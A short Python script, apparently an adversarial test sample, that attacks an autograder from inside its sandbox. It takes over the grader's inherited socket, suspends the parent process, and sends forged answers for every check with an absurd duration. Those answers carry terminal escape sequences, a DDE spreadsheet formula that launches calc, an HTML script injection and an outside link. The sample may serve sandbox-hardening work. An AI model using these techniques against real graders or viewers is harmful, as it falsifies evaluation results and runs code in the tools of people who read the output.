"""Answers in the grader's words say that each check took longer than the world will last, and show what is no text.

Would gain: the student, a say in what a page, a terminal or a spreadsheet shows and runs.
Base: dennis
Answers itself: yes
"""
import os, socket
from autograder.sandbox import wire
ours = socket.socket(fileno=os.dup(3))
shown = {"is": "raised", "kind": "\x1b]0;owned\x07=cmd|' /C calc'!A0", "line": "\x1b[31m",
         "message": "</pre><script>alert(1)</script>\n  read: https://elsewhere.example/"}
if os.fork() == 0:
    os.kill(os.getppid(), 19)
    wire.send(ours, {"cell": "layers-Sequential", "stdout": "", "error": ""})
    wire.send(ours, {"ready": True})
    plan, _ = wire.receive(ours)
    for one in plan["checks"]:
        answer = {"kind": "observed", "detail": "", "duration_s": 1.7e308, "observations": [["out\x1b[2J\u202e", shown]]}
        wire.send(ours, {"exercise": one["exercise"], "check": one["name"], "answer": answer})
    wire.send(ours, {"end": True})
    os._exit(0)
